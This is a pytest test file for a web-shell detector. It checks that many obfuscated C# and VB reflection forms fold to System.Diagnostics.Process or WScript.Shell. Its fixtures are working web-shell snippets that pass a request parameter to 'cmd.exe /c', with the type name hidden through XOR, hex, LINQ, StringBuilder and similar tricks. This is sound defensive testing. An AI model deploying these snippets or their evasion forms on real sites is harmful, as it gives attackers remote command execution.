"""More ways a shell builds the names it calls by reflection, each folded without running it:
C# interpolation with constant holes, a StringBuilder chain, `Uri.UnescapeDataString`, `Regex.Unescape`,
`Regex.Replace` with a plain pattern, VB's string functions (`Replace`, `Mid`, `Left`, `Right`,
`LCase`, `Join` of `New String() {...}`), a condition that folds to a constant, LINQ `Select`
with a lambda (chars XORed with a key, hex pairs over `Enumerable.Range`, decimal codes read by
`int.Parse`), `Where`, `Aggregate`
(with and without a seed), `Skip`, `Take`, `Last`, `ElementAt`, the same through VB's
`Function(...)` lambdas, `Trim`, `TrimStart`,
`TrimEnd` and `PadLeft` with characters, and a character or item of a constant at a constant
index; names given their values by C# tuple deconstruction; and a type kept in a variable (`var t =
Type.GetType(...)`, an assembly's `GetType`, VB `GetType(T)`) whose `GetMethod(...).Invoke`
runs the method it names. A builder kept in a variable folds only where each use is an append
statement of its own block or a read (it changes after it is made), and a regular expression
with metacharacters is not read as plain text."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, chain_of, cs_page, run, vb_page

PROCESS = "EXH-WS-CODE-PROCESS"
TYPE_NAME = "System.Diagnostics.Process"
INVOKE = 'Type.GetType({t}).GetMethod("Start", new Type[] {{ typeof(string), typeof(string) }})' + (
    '.Invoke(null, new object[] {{ "cmd.exe", "/c " + Request["c"] }});'
)
VB_INVOKE = (
    "Dim t As Type = Type.GetType({t})\n"
    't.GetMethod("Start", New Type() {{GetType(String), GetType(String)}})'
    '.Invoke(Nothing, New Object() {{"cmd.exe", "/c " & Request("c")}})'
)

CS_FORMS = [
    ("interpolation", '$"System.{"Diag" + "nostics"}.Process"'),
    ("verbatim interpolation", '$@"System.{"Diagnostics"}.{"Pro" + "cess"}"'),
    (
        "StringBuilder chain",
        'new System.Text.StringBuilder("System.").Append("Diagnostics.").Append("Process").ToString()',
    ),
    ("StringBuilder insert", 'new StringBuilder("System.Process").Insert(7, "Diagnostics.").ToString()'),
    ("UnescapeDataString", 'Uri.UnescapeDataString("System.Diagnostics.%50rocess")'),
    ("Regex.Unescape", r'System.Text.RegularExpressions.Regex.Unescape(@"System\.Diagnostics\.\x50roc\u0065ss")'),
    ("Regex.Replace", 'System.Text.RegularExpressions.Regex.Replace("Sys_tem.Diag_nostics.Pro_cess", "_", "")'),
    ("constant condition", '(1 > 0 && "a" != "b" ? "System.Diagnostics.Process" : "System.String")'),
    ("equal branches", '(Request["m"] == "1" ? "System.Diagnostics.Process" : "System.Diagnostics." + "Process")'),
    (
        "LINQ Select with XOR",
        # Each char XORed with a key, as a generator's encoder writes it: "System.Diagnostics.Process" ^ 7.
        'new string("T~tsbj)Cnf`ihtsndt)Wuhdbtt".Select(c => (char)(c ^ 7)).ToArray())',
    ),
    (
        "hex pairs through Enumerable.Range",
        "System.Text.Encoding.ASCII.GetString(Enumerable.Range(0, 26).Select(i => "
        'Convert.ToByte("53797374656d2e446961676e6f73746963732e50726f63657373".Substring(i * 2, 2), 16)).ToArray())',
    ),
    ("TrimStart and TrimEnd", "\"__System.Diag\".TrimStart('_') + \"nostics.Process~~\".TrimEnd('~')"),
    ("Trim of several chars", "\"#*System.Diagnostics.Process*#\".Trim('#', '*')"),
    ("PadLeft with a char", "\"ystem.Diagnostics.Process\".PadLeft(26, 'S')"),
    ("character of a constant", '"QRS"[2] + "ystem.Diagnostics.Process"'),
    ("item of a constant array", 'new[] { "System.String", "System.Diagnostics.Process" }[1]'),
    ("LINQ Aggregate", 'new[] { "System.", "Diagnostics.", "Process" }.Aggregate((a, b) => a + b)'),
    ("LINQ Aggregate with a seed", '"System.Diagnostics.Process".Aggregate("", (s, c) => s + c)'),
    ("LINQ Where", "new string(\"S#y#stem.Diagnostics.Pro#cess\".Where(c => c != '#').ToArray())"),
    (
        "LINQ Where on the index",
        'string.Concat("xSxyxsxtxexmx.xDxixaxgxnxoxsxtxixcxsx.xPxrxoxcxexsxs".Where((c, i) => i % 2 == 1))',
    ),
    ("LINQ Skip and Take", 'new string("zzSystem.Diagnostics.Processqq".Skip(2).Take(26).ToArray())'),
    ("LINQ Last", 'new[] { "System.String", "System.Diagnostics.Process" }.Last()'),
    ("LINQ ElementAt", 'new[] { "System.String", "System.Diagnostics.Process" }.ElementAt(1)'),
    (
        "char codes through int.Parse",
        # the codes written in decimal, split and parsed
        "new string(\"83,121,115,116,101,109,46,68,105,97,103,110,111,115,116,105,99,115,46,80,114,111,99,101,115,115\".Split(',').Select(x => (char)int.Parse(x)).ToArray())",
    ),
]
VB_FORMS = [
    ("Replace", 'Replace("Sys#tem.Diag#nostics.Process", "#", "")'),
    ("Mid", 'Mid("xxSystem.Diagnostics.Processyy", 3, 26)'),
    ("Left and Right", 'Left("System.Diagnostics.Xx", 19) & Right("zzProcess", 7)'),
    ("LCase", 'Strings.LCase("SYSTEM.DIAGNOSTICS.") & "Process"'),
    ("Join", 'Join(New String() {"System", "Diagnostics", "Process"}, ".")'),
    ("Join of Split", 'Join(Split("System|Diagnostics|Process", "|"), ".")'),
    ("Split on a whole delimiter", 'Join(Split("System::Diagnostics::Process", "::"), ".")'),
    ("Trim of Space", 'Trim(Space(3) & "System.Diagnostics.Process")'),
    (
        "char codes through Integer.Parse",
        'New String("83,121,115,116,101,109,46,68,105,97,103,110,111,115,116,105,99,115,46,80,114,111,99,101,115,115".Split(","c).Select(Function(x) ChrW(Integer.Parse(x))).ToArray())',
    ),
    ("If with a constant condition", 'If(1 > 0 AndAlso "a" <> "b", "System.Diagnostics.Process", "System.String")'),
    ("IIf with Not", 'IIf(Not (1 > 2), "System.Diagnostics.Process", "System.String")'),
    (
        "Aggregate with a Function lambda",
        'New String() {"System.", "Diagnostics.", "Process"}.Aggregate(Function(a, b) a & b)',
    ),
    (
        "Where with a Function lambda",
        'New String("S#ystem.Diagnostics.Process".Where(Function(c) c <> "#"c).ToArray())',
    ),
    (
        "Select with a typed Function lambda",
        'New String("Tztufn/Ejbhoptujdt/Qspdftt".Select(Function(ByVal c As Char) ChrW(AscW(c) - 1)).ToArray())',
    ),
]


@pytest.mark.parametrize(("form", "expr"), CS_FORMS, ids=[f[0] for f in CS_FORMS])
def test_csharp_form_folded(form: str, expr: str) -> None:
    report = assert_found("f.aspx", cs_page(INVOKE.format(t=expr)), PROCESS, ["request parameter 'c'", "Process.Start"])
    assert TYPE_NAME in report.folded, (form, report.folded)


@pytest.mark.parametrize(("form", "expr"), VB_FORMS, ids=[f[0] for f in VB_FORMS])
def test_vb_form_folded(form: str, expr: str) -> None:
    report = assert_found("f.aspx", vb_page(VB_INVOKE.format(t=expr)), PROCESS, ["request parameter 'c'"])
    assert TYPE_NAME.lower() in {f.lower() for f in report.folded}, (form, report.folded)


TYPED = [
    (
        "type variable",
        cs_page(
            'var t = Type.GetType("System.Diag" + "nostics.Process");\n'
            'var m = t.GetMethod("Sta" + "rt", new Type[] { typeof(string), typeof(string) });\n'
            'm.Invoke(null, new object[] { "cmd.exe", "/c " + Request.Form["c"] });'
        ),
        ["form field 'c'", "called by reflection as Process.Start"],
    ),
    (
        "assembly GetType",
        cs_page(
            'var asm = System.Reflection.Assembly.Load("System, Version=4.0.0.0, Culture=neutral, '
            'PublicKeyToken=b77a5c561934e089");\n'
            'Type t = asm.GetType("System.Diagnostics.Process");\n'
            't.GetMethod("Start", new Type[] { typeof(string), typeof(string) })'
            '.Invoke(null, new object[] { "cmd.exe", Request["c"] });'
        ),
        ["request parameter 'c'", "Process.Start"],
    ),
    (
        "VB GetType",
        vb_page(
            "Dim t As Type = GetType(System.Diagnostics.Process)\n"
            'Dim m = t.GetMethod("Start", New Type() {GetType(String), GetType(String)})\n'
            'm.Invoke(Nothing, New Object() {"cmd.exe", Request.QueryString("q")})'
        ),
        ["query parameter 'q'", "called by reflection as Process.Start"],
    ),
]


@pytest.mark.parametrize(("form", "code", "words"), TYPED, ids=[t[0] for t in TYPED])
def test_type_in_a_variable(form: str, code: str, words: list[str]) -> None:
    assert_found("t.aspx", code, PROCESS, words)


def test_builder_in_a_variable_is_not_a_constant() -> None:
    """The builder's appends after it was made carry the client's command: no fixed value."""
    code = cs_page(
        'var sb = new System.Text.StringBuilder("/c ");\n'
        'sb.Append(Request["c"]);\n'
        'System.Diagnostics.Process.Start("cmd.exe", sb.ToString());'
    )
    assert_found("sb.aspx", code, PROCESS, ["request parameter 'c'"])
    assert "/c " not in run("sb.aspx", code).folded


def test_regex_with_metacharacters_not_folded() -> None:
    code = cs_page(
        'var n = System.Text.RegularExpressions.Regex.Replace("System.Diagnostics.Process", ".", "");\n'
        "Response.Write(n);"
    )
    folded = run("r.aspx", code).folded
    assert "SystemDiagnosticsProcess" not in folded, folded


BENIGN = [
    (
        "fixed program by reflection",
        cs_page(
            'var t = Type.GetType("System.Diagnostics.Process");\n'
            't.GetMethod("Start", new Type[] { typeof(string) }).Invoke(null, new object[] { "notepad.exe" });'
        ),
    ),
    (
        "type variable, harmless method",
        cs_page(
            'var t = Type.GetType("System.IO.Path");\n'
            'var m = t.GetMethod("GetFileName", new Type[] { typeof(string) });\n'
            'Response.Write(Server.HtmlEncode((string)m.Invoke(null, new object[] { Request["f"] })));'
        ),
    ),
]


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_lookalike_not_reported(name: str, code: str) -> None:
    assert_benign("b.aspx", code)


def test_a_condition_on_the_request_picks_no_branch() -> None:
    # The client's value decides: neither name is the constant, so neither is shown as folded.
    code = cs_page(
        'string t = Request["m"] == "1" ? "System.Diagnostics.Process" : "System.Text.StringBuilder";\n'
        "Response.Write(Type.GetType(t).FullName);"
    )
    assert not any("Process" in shown for shown in run("cond.aspx", code).folded)


@pytest.mark.parametrize(
    "body",
    [
        'var (f, a) = ("cmd.exe", "/c " + Request["c"]);\nSystem.Diagnostics.Process.Start(f, a);',
        'string f, a;\n(f, a) = ("cmd.exe", "/c " + Request["c"]);\nSystem.Diagnostics.Process.Start(f, a);',
        '(string f, string a) = ("cmd.exe", "/c " + Request["c"]);\nSystem.Diagnostics.Process.Start(f, a);',
    ],
    ids=["var", "assigned", "typed"],
)
def test_tuple_deconstruction_gives_each_name_its_value(body: str) -> None:
    # C# 7's deconstruction: each name on the left takes the element in its place on the right.
    assert_found("t.aspx", cs_page(body), PROCESS, ["request parameter 'c'", "Process.Start"])


def test_tuple_deconstruction_folds_each_name() -> None:
    code = cs_page(
        'var (t, m) = ("Sys" + "tem.Diagnostics.Pro" + "cess", "St" + "art");\n'
        "Type.GetType(t).GetMethod(m, new Type[] { typeof(string), typeof(string) })"
        '.Invoke(null, new object[] { "cmd.exe", "/c " + Request["c"] });'
    )
    report = run("t.aspx", code)
    assert TYPE_NAME in report.folded
    assert "Process.Start" in chain_of(report, PROCESS)


def test_tuple_of_constants_is_resolved_and_quiet() -> None:
    # Fixed values in a tuple are constants like any other: a fixed tool, nothing unresolved.
    code = cs_page(
        'var (f, a) = ("ipconfig.exe", "/all");\n'
        "var p = System.Diagnostics.Process.Start(f, a);\n"
        'Response.Write(Server.HtmlEncode(Request["q"]));'
    )
    assert run("t.aspx", code).capabilities == []


# A constant array whose items are then set at literal indexes (C#'s `a[0] = ...`, VB's `a(0) =
# ...`); the name is read back whole (`string.Join`, `Encoding.GetString`) or item by item.
FILLED = [
    (
        "C# string array",
        cs_page(
            'var p = new string[] { "", "", "" };\np[0] = "System.Diag";\np[1] = "nostics.Pro";\np[2] = "cess";\n'
            + INVOKE.format(t='string.Join("", p)')
        ),
    ),
    (
        "C# byte array",
        cs_page(
            "var b = new byte[] { 0, 0, 0, 0 };\nb[0] = 83;\nb[1] = 121;\nb[2] = 115;\nb[3] = 116;\n"
            + INVOKE.format(t='System.Text.Encoding.ASCII.GetString(b) + "em.Diagnostics.Process"')
        ),
    ),
    (
        "VB string array",
        vb_page(
            'Dim p As String() = New String() {"", "", ""}\np(0) = "System.Diag"\np(1) = "nostics.Pro"\np(2) = "cess"\n'
            + VB_INVOKE.format(t="p(0) & p(1) & p(2)")
        ),
    ),
]


@pytest.mark.parametrize(("form", "code"), FILLED, ids=[f[0] for f in FILLED])
def test_an_array_filled_item_by_item_folds(form: str, code: str) -> None:
    report = run("a.aspx", code)
    assert TYPE_NAME in report.folded, (form, report.folded)
    assert "Process.Start" in chain_of(report, PROCESS), form


def test_a_fixed_command_from_array_items_is_resolved_and_quiet() -> None:
    code = cs_page(
        'var a = new string[] { "", "" };\na[0] = "ipconfig.exe";\na[1] = "/all";\n'
        "System.Diagnostics.Process.Start(a[0], a[1]);\n"
        'Response.Write(Server.HtmlEncode(Request["q"]));'
    )
    assert run("a.aspx", code).capabilities == []


def test_an_array_made_by_its_size_is_not_a_constant() -> None:
    # Its items are whatever fills it later: a library the page hands it to may write any command
    # into it, so an item read from it is an unresolved value, never its type's default.
    code = cs_page('var a = new string[2];\nContoso.Relay.Fill(a);\nSystem.Diagnostics.Process.Start("cmd.exe", a[1]);')
    assert "EXH-WS-CODE-UNRESOLVED-SINK" in [c.rule_id for c in run("a.aspx", code).capabilities]


@pytest.mark.parametrize(
    "store",
    ['a[1] = Request["c"];', 'a[i] = "/all";', 'a[5] = "/all";'],
    ids=["request value", "index not constant", "index out of range"],
)
def test_an_item_store_the_folder_cannot_follow_forgets_the_array(store: str) -> None:
    # The array is no longer a constant: the request's item is the client's command, and a store
    # at an unknown or impossible index leaves every item unknown (a finding, never a stale constant).
    code = cs_page(
        'int i = DateTime.Now.Second % 2;\nvar a = new string[] { "", "" };\na[0] = "ipconfig.exe";\na[1] = "x";\n'
        + store
        + "\nSystem.Diagnostics.Process.Start(a[0], a[1]);"
    )
    found = [c.rule_id for c in run("a.aspx", code).capabilities]
    assert found and set(found) <= {PROCESS, "EXH-WS-CODE-UNRESOLVED-SINK"}, found


def test_an_array_too_large_to_fill_is_not_made() -> None:
    # A size past the folder's item limit folds to nothing, not to a hundred million empty items.
    code = cs_page('var a = new string[100000000];\na[0] = "x";\nLabel1.Text = string.Join("", a);')
    report = run("a.aspx", code)
    assert not report.problems and not report.capabilities


HELPERS = [
    ("expression-bodied method", 'static string N() => "Sys" + "tem.Diagnostics.Pro" + "cess";', "N()"),
    (
        "params array of a helper",
        "static string J(string sep, params string[] parts) => string.Join(sep, parts);",
        'J("", "System.Diag", "nostics.", "Process")',
    ),
    (
        "method of several stores",
        'static string N(string tail) { var a = "System."; string b = "Diagnostics.", c; a += b; c = a + tail; return c; }',
        'N("Process")',
    ),
    (
        "params helper given an array",
        "static string J(params string[] parts) { return string.Concat(parts); }",
        'J(new[] { "System.Diagnostics.", "Process" })',
    ),
]


@pytest.mark.parametrize(("form", "members", "call"), HELPERS, ids=[h[0] for h in HELPERS])
def test_a_helper_method_folds_with_its_arguments(form: str, members: str, call: str) -> None:
    code = cs_page(INVOKE.format(t=call), members=members)
    report = run("h.aspx", code)
    assert TYPE_NAME in report.folded, (form, report.folded)
    assert "Process.Start" in chain_of(report, PROCESS), form


def test_a_fixed_command_from_a_params_helper_is_resolved_and_quiet() -> None:
    code = cs_page(
        'System.Diagnostics.Process.Start(Tool("ipconfig", ".exe"), "/all");\n'
        'Response.Write(Server.HtmlEncode(Request["q"]));',
        members="static string Tool(params string[] p) => string.Concat(p);",
    )
    assert run("h.aspx", code).capabilities == []


def test_a_vb_function_of_several_stores_folds_whatever_the_case_of_its_names() -> None:
    # VB names are one whatever their case: `Tail` bound as the parameter `tail`.
    members = 'Function N(Tail As String) As String\n    Dim a As String = "System."\n    a &= "Diagnostics."\n    Return A & tail\nEnd Function'
    report = run("h.aspx", vb_page(VB_INVOKE.format(t='N("Process")'), members=members))
    assert TYPE_NAME in report.folded, report.folded
    assert "Process.Start" in chain_of(report, PROCESS)


def test_a_progid_built_by_a_helper_of_several_stores_is_the_com_class() -> None:
    # Before, the ProgID was not folded, the object was of no known class, and nothing was reported.
    code = cs_page(
        'dynamic o = Activator.CreateInstance(Type.GetTypeFromProgID(P()));\no.Run(Request["c"]);',
        members='static string P() { var a = "WScr"; a += "ipt.Shell"; return a; }',
    )
    report = assert_found("p.aspx", code, PROCESS, ["request parameter 'c'", "wscript.shell.Run"])
    assert "WScript.Shell" in report.folded


@pytest.mark.parametrize(
    "body",
    [
        'var a = "notepad.exe"; Contoso.Fill(ref a); return a;',
        'var a = "notepad.exe"; if (DateTime.Now.Hour > 3) a = Contoso.Next(); return a;',
        'var a = "notepad.exe"; a = Contoso.Next(); return a;',
        'string[] a = { "notepad.exe" }; a[0] = Contoso.Next(); return a[0];',
    ],
)
def test_a_method_that_may_return_what_a_library_gives_is_not_folded(body: str) -> None:
    # A call, a branch, or a store into an item: what it returns is not followed, so the command
    # stays an unresolved value, never the constant the method started with.
    code = cs_page('System.Diagnostics.Process.Start(N(), "/all");', members=f"static string N() {{ {body} }}")
    assert "EXH-WS-CODE-UNRESOLVED-SINK" in [c.rule_id for c in run("n.aspx", code).capabilities]


def test_a_fixed_command_from_a_method_of_several_stores_is_resolved_and_quiet() -> None:
    code = cs_page(
        'System.Diagnostics.Process.Start(Tool(), "/all");',
        members='static string Tool() { string dir = @"C:\\Windows\\System32\\"; var exe = dir + "ipconfig"; exe += ".exe"; return exe; }',
    )
    assert run("t.aspx", code).capabilities == []


BUILT_PROGID = [
    (
        "cs",
        cs_page(
            'var sb = new System.Text.StringBuilder("WScr");\nsb.Append("ipt.").Append("Shell");\n'
            'dynamic o = Activator.CreateInstance(Type.GetTypeFromProgID(sb.ToString()));\no.Run(Request["c"]);'
        ),
    ),
    (
        "vb",
        vb_page(
            'Dim sb As New System.Text.StringBuilder()\nsb.Append("WScr")\nsb.Append("ipt.Shell")\n'
            'Dim o As Object = CreateObject(sb.ToString())\no.Run(Request("c"))'
        ),
    ),
]


@pytest.mark.parametrize(("lang", "code"), BUILT_PROGID, ids=[b[0] for b in BUILT_PROGID])
def test_a_progid_built_in_a_builder_variable_is_the_com_class(lang: str, code: str) -> None:
    # Before, a builder kept in a variable never folded: the object had no known class and its
    # Run(Request["c"]) was reported by nothing.
    report = assert_found(f"{lang}.aspx", code, PROCESS, ["request parameter 'c'", "wscript.shell.Run"])
    assert "WScript.Shell" in report.folded


def test_a_fixed_command_built_in_a_builder_variable_is_resolved_and_quiet() -> None:
    code = cs_page(
        'var sb = new System.Text.StringBuilder();\nsb.Append("ipconfig");\nsb.Append(".exe");\n'
        'System.Diagnostics.Process.Start(sb.ToString(), "/all");'
    )
    assert run("b.aspx", code).capabilities == []


@pytest.mark.parametrize(
    "body",
    [
        'sb.Append("ipconfig.exe");\nContoso.Fill(sb);\nSystem.Diagnostics.Process.Start(sb.ToString(), "/all");',
        'sb.Append("ipconfig.exe");\nif (DateTime.Now.Hour > 3) sb.Append(Contoso.Next());\n'
        'System.Diagnostics.Process.Start(sb.ToString(), "/all");',
        'sb.Append("ipconfig.exe");\nSystem.Action a = () => System.Diagnostics.Process.Start(sb.ToString(), "/all");\n'
        "sb.Clear().Append(Contoso.Next());\na();",
        'sb.Append("ipconfig.exe");\nvar same = sb;\nsame.Append(Contoso.Next());\n'
        'System.Diagnostics.Process.Start(sb.ToString(), "/all");',
    ],
    ids=["passed to a library", "appended in a branch", "read in a lambda", "held by another name"],
)
def test_a_builder_a_library_may_change_is_not_folded(body: str) -> None:
    # Each may change the text in a way not followed: the command stays unresolved, never the
    # constant appended first.
    code = cs_page("var sb = new System.Text.StringBuilder();\n" + body)
    assert "EXH-WS-CODE-UNRESOLVED-SINK" in [c.rule_id for c in run("b.aspx", code).capabilities]


@pytest.mark.parametrize("head", ["Public Shared Function N() As String", "Private Function N() As String"])
@pytest.mark.parametrize(
    "body", ['    Return "ipconfig.exe"', '    Dim a As String = "ipconfig"\n    a &= ".exe"\n    Return a']
)
def test_a_vb_function_with_modifiers_folds(head: str, body: str) -> None:
    # Its modifiers were read as a statement of its body, so such a function (most VB helpers)
    # was never one `Return`, nor stores before one, and a fixed command it gave was unresolved.
    code = vb_page('System.Diagnostics.Process.Start(N(), "/all")', members=f"{head}\n{body}\nEnd Function")
    assert run("m.aspx", code).capabilities == []


def test_a_utf8_literal_folds_to_its_text() -> None:
    # C# 11's `"..."u8` is the UTF-8 bytes of the text before the suffix; read as a plain literal,
    # the suffix's quote and `u` were taken into the text (`cmd.exe"u`).
    page = cs_page(
        'var b = "cmd.exe"u8.ToArray();\nSystem.Diagnostics.Process.Start(System.Text.Encoding.UTF8.GetString(b));'
    )
    folded = run("u8.aspx", page).folded
    assert "cmd.exe" in folded, folded
    assert not any('"u' in f for f in folded), folded
